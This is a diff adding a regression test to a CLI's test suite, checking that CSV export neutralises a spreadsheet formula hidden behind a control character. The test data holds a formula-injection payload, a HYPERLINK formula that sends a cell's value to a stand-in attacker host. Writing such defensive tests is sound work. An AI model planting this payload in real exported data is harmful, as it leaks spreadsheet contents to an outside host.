@@ -382,6 +382,17 @@ describe("mcp-activity query", () => {
     }
   });
 
+  it("writes no live formula to a CSV file, even one hidden behind control characters", async () => {
+    const { db, path } = storeWith([
+      { time: Date.now() - HOUR, resource: '\u0007=HYPERLINK("http://evil/?"&A1,"x")' },
+    ]);
+    db.close();
+    const out = await runCli(["query", "since:1d format:csv"], { DATABASE_PATH: path });
+    expect(out.code, out.stderr).toBe(0);
+    expect(out.stdout).toContain(`"'=HYPERLINK(""http://evil/?""&A1,""x"")"`);
+    expect(out.stdout).not.toMatch(/(^|,)"?=/m);
+  });
+
   it("prints its help for help, and says status and settings answer in Slack", async () => {
     const help = await runCli(["query", "help"], {});
     expect(help.code).toBe(0);
